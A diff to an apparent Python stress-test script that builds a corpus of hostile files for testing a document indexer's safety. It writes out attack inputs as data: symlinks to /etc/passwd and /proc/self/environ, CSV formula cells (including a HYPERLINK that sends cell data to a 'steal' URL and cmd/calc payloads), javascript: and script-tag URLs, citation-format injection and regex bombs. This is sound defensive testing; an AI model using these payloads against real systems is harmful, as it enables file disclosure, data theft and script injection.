@@ -1,8 +1,19 @@
 """A corpus of bad files: empty, binary, truncated, huge, deeply nested, wrongly encoded, malicious.
 
-    .venv/bin/python -m tests.stress.hostile_corpus DEST [--count 1000] [--huge-mib 50]
+    .venv/bin/python -m tests.stress.hostile_corpus DEST [--count 1000] [--huge-mib 50] [--sparse-gib 4]
+                                                         [--index INDEX]
 
 Every file must be skipped with a clear reason or indexed safely; nothing in it may ever run in a browser.
+Besides ``--count`` files of the kinds in ``generate``, it holds one of each attack of the security probe
+(``attacks()``): links out of the folder (absolute, ``../``, to ``/etc/passwd``, a folder link) and inside
+it, a FIFO, sparse files of ``--sparse-gib`` GiB, an export with one record over the size limit, control and
+bidi characters, hostile URLs (``javascript:``, ``data:``, a tab inside the scheme, newline and brace
+injection), CSV formula cells, regex-bomb text, too-deep records and file names that are not UTF-8.
+
+With ``--index``, it then runs ``archive index DEST --index INDEX --json`` and reports (JSON on stdout):
+crashes (files that "could not be parsed", or a non-zero exit), files from outside the folder that were
+indexed, the peak memory of the indexer and its workers, and the slowest releases to extract (CPU seconds).
+Targets: 0, 0, ≤ 300 MB, ≤ 2 s; the exit code is 1 when one of the first three is missed.
 """
 
 from __future__ import annotations
@@ -12,6 +23,10 @@ import gzip
 import json
 import os
 import random
+import subprocess
+import sys
+import threading
+import time
 from pathlib import Path
 
 PAYLOADS = [
@@ -34,9 +49,9 @@ def write(path: Path, data: bytes | str) -> None:
     path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
 
 
-def generate(dest: Path, count: int, huge_mib: int, seed: int = 1) -> int:
+def generate(dest: Path, count: int, huge_mib: int, seed: int = 1, sparse_gib: int = 4) -> int:
     rng = random.Random(seed)
-    made = 0
+    made = attacks(dest, sparse_gib, huge_mib)
     kinds = ["empty", "binary", "truncated", "nul", "latin1", "mixed", "utf16", "script", "json-scalar", "jsonl-bad",
              "json-broken", "gz-bad", "deep", "md-hostile", "whitespace", "bom-only", "long-line"]
     for n in range(count):
@@ -99,14 +114,148 @@ def generate(dest: Path, count: int, huge_mib: int, seed: int = 1) -> int:
     return made + 2
 
 
+SECRET = "OUTSIDE-THE-ROOT-SECRET"
+FORMULAS = ['=HYPERLINK("http://127.0.0.1:9/steal?x="&A1,"Click for details")', "+cmd|' /C calc'!A0 formula 1",
+            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1 tab", "\r=1+1 return"]
+URLS = ["javascript:alert('JSONURL')", "data:text/html,<script>alert(1)</script>", "java\tscript:alert(1)",
+        "vbscript:msgbox(1)", "https://example.com/a}, note = {INJECTED-BIBTEX}, x = {\nTY  - JOUR\nAU  - INJECTED RIS AUTHOR\nER  - ",
+        "https://example.com/b}race\\input{/etc/passwd}", 'https://example.com/"><script>alert(1)</script>']
+BOMBS = {"a-run": "A" * 20_000, "us-run": "U.S. " * 5_000 + "said Jane Doe.",
+         "names-run": "Jane Doe, " * 800 + "said the director.", "place-run": "WASHINGTON, " + "D.C. " * 44 + "-- text."}
+BODY = "The harbor office issued a notice about dredging the channel on Monday."
+
+
+def attacks(dest: Path, sparse_gib: int, huge_mib: int) -> int:
+    """One of each attack of the security probe; returns how many files (links included) it made."""
+    outside = dest.parent / f"{dest.name}-outside"
+    outside.mkdir(parents=True, exist_ok=True)
+    (outside / "secret.md").write_text(f"# Secret\n\n{SECRET} payroll figures.\n")
+    (outside / "folder").mkdir(exist_ok=True)
+    (outside / "folder" / "inner.md").write_text(f"# Inner\n\n{SECRET} in a folder.\n")
+    links = dest / "links"
+    write(links / "target.md", "# Harbor Opens\n\nTESSALY, May 2, 2024 -- The harbor opened on Monday.\n")
+    made = 1
+    for name, target in [("passwd.txt", "/etc/passwd"), ("passwd.md", "/etc/passwd"), ("secret.md", str(outside / "secret.md")),
+                         ("relsecret.md", f"../../{outside.name}/secret.md"), ("dotdot.md", "../links/target.md"),
+                         ("inside.md", "target.md"), ("outside-folder", str(outside / "folder")),
+                         ("environ.txt", "/proc/self/environ"), ("zero.md", "/dev/zero")]:
+        try:
+            os.symlink(target, links / name)
+            made += 1
+        except OSError:
+            pass
+    try:
+        os.mkfifo(links / "pipe.md")
+        made += 1
+    except (OSError, AttributeError):
+        pass
+    sparse = dest / "sparse"
+    sparse.mkdir(parents=True, exist_ok=True)
+    for name, head in [("huge.md", b""), ("huge.jsonl", b'{"title": "A", "text": "Body one."}\n{"title": "B", "text": "Body two."}\n')]:
+        with open(sparse / name, "wb") as fh:
+            fh.write(head)
+            fh.truncate(sparse_gib << 30)
+        made += 1
+    record = json.dumps({"title": "Harbor Notice", "date": "2024-03-11", "text": BODY})
+    with open(sparse / "overlong-record.jsonl", "w", encoding="utf-8") as fh:  # written, not sparse
+        fh.write(f"{record}\n{record}\n")
+        fh.write(json.dumps({"title": "Huge", "text": "x" * (max(huge_mib, 21) << 20)}) + f"\n{record}\n")
+    made += 1
+    lines = [{"title": "Control chars \u0001\u0002\u0008\u000b\u001b\ufffe\uffff in title"},
+             {"title": "Invoice evil\u202egpj.exe", "issuer": "Acme\u200d Corp\u2060", "tags": ["Saf\u200bety", "Safety"]},
+             {"title": "Harbor " * 20_000}, {"text": [f"Paragraph {n} of the notice." for n in range(20_000)]},
+             *({"url": url} for url in URLS),
+             *({"title": f, "issuer": f, "tags": [f]} for f in FORMULAS),
+             *({"title": f"Bomb {name}", "text": text} for name, text in BOMBS.items()),
+             {"title": "Lone surrogate \ud800 here"}]
+    json_dir = dest / "json"
+    json_dir.mkdir(parents=True, exist_ok=True)
+    with open(json_dir / "attacks.jsonl", "w", encoding="utf-8") as fh:
+        for n, fields in enumerate(lines):
+            fh.write(json.dumps({"title": f"Attack {n}", "date": "2024-01-02", "text": BODY, **fields}) + "\n")
+        fh.write('{"title": "Deep", "text": ' + "[" * 100_000 + "]" * 100_000 + "}\n" + record + "\n")
+    write(json_dir / "deep-doc.json", '{"title": "Deep", "text": ' + "[" * 200_000 + "]" * 200_000 + "}")
+    made += 2
+    for n, url in enumerate(URLS):
+        href = url.replace('"', "&quot;")
+        write(dest / "html" / f"canon-{n}.html", f'<html><head><title>Canonical {n}</title><link rel="canonical" href="{href}">'
+                                                 f"</head><body><h1>Canonical {n}</h1><p>{BODY}</p></body></html>")
+    write(dest / "html" / "controls.html", "<html><head><title>Ctl \x01\x1b\u202e title</title></head><body>"
+                                          f"<h1>Ctl \x01\x1b\u202e title</h1><p>{BODY} \x07\x0b</p></body></html>")
+    made += len(URLS) + 1
+    write(dest / "md" / "formula.md", f"# {FORMULAS[0]}\n\n{BODY}\n\n---\n\n[Original/Source Press Release](javascript:alert(1))\n")
+    for name, text in BOMBS.items():
+        write(dest / "md" / f"bomb-{name}.md", f"# Bomb {name}\n\n{text}\n")
+        write(dest / "txt" / f"bomb-{name}.txt", f"{text}\n\n{BODY}\n")
+    made += 1 + 2 * len(BOMBS)
+    names = dest / "names"
+    names.mkdir(parents=True, exist_ok=True)
+    for raw in (b"\xff.md", b"\xfe.md", b"\xfd.md", b"x\nfake: 999 releases indexed OK.md", b"evil\xe2\x80\xaetxt.md"):
+        (names / os.fsdecode(raw)).write_text(f"# Notice {raw[0]}\n\n{BODY}\n")
+        made += 1
+    return made
+
+
+def report(dest: Path, index: Path) -> dict:
+    """Index ``dest`` as a user would and measure what the probe's targets are about."""
+    from archive.store import IndexHome, IndexReader
+    from benchmarks.common import tree_rss_kib
+
+    started, peak = time.monotonic(), 0
+    proc = subprocess.Popen([sys.executable, "-m", "archive.cli", "index", str(dest), "--index", str(index), "--json"],
+                            stdout=subprocess.PIPE, stderr=subprocess.PIPE)
+    out: list[bytes] = []
+    reader_thread = threading.Thread(target=lambda: out.append(proc.stdout.read()), daemon=True)  # type: ignore[union-attr]
+    reader_thread.start()
+    main_peak = 0
+    while proc.poll() is None:
+        peak = max(peak, tree_rss_kib(proc.pid))
+        main_peak = max(main_peak, _pss_kib(proc.pid))
+        time.sleep(0.05)
+    reader_thread.join()
+    summary = json.loads(b"".join(out) or b"{}")
+    reader = IndexReader(IndexHome(index))
+    try:
+        outside = sorted({r.source for r in reader.iter_releases()
+                          if SECRET in " ".join([r.title, *r.paragraphs]) or "root:x:0:0" in " ".join([r.title, *r.paragraphs])})
+    finally:
+        reader.close()
+    crashes = [s for s in summary.get("skipped", []) if "could not be parsed" in s["reason"]]
+    slow = [s for s in summary.get("skipped", []) if s["reason"].startswith(("took longer", "not extracted"))]
+    return {
+        "exit_code": proc.returncode, "seconds": round(time.monotonic() - started, 1),
+        "releases": summary.get("releases"), "skipped": len(summary.get("skipped", [])),
+        "crashes": len(crashes) + (proc.returncode != 0), "crashed": crashes,
+        "outside_indexed": len(outside), "outside": outside,
+        "peak_memory_mb": round(peak / 1024, 1), "peak_writer_mb": round(main_peak / 1024, 1),
+        "slowest_records": summary.get("slowest", []), "stopped_for_time": slow,
+    }
+
+
+def _pss_kib(pid: int) -> int:
+    """The memory of the indexer's own process (the writer), without its workers."""
+    try:
+        return next(int(line.split()[1]) for line in Path(f"/proc/{pid}/smaps_rollup").read_text().splitlines()
+                    if line.startswith("Pss:"))
+    except (OSError, StopIteration, ValueError):
+        return 0
+
+
 def main() -> int:
     parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
     parser.add_argument("dest", type=Path)
     parser.add_argument("--count", type=int, default=1000)
     parser.add_argument("--huge-mib", type=int, default=50)
+    parser.add_argument("--sparse-gib", type=int, default=4)
+    parser.add_argument("--index", type=Path, default=None, help="Index the corpus there and report.")
     args = parser.parse_args()
-    print(f"{generate(args.dest, args.count, args.huge_mib)} hostile files in {args.dest}")
-    return 0
+    made = generate(args.dest, args.count, args.huge_mib, sparse_gib=args.sparse_gib)
+    print(f"{made} hostile files in {args.dest}", file=sys.stderr)
+    if args.index is None:
+        return 0
+    result = report(args.dest, args.index)
+    print(json.dumps(result, indent=2, ensure_ascii=False))
+    return 1 if result["crashes"] or result["outside_indexed"] or result["peak_memory_mb"] > 300 else 0
 
 
 if __name__ == "__main__":
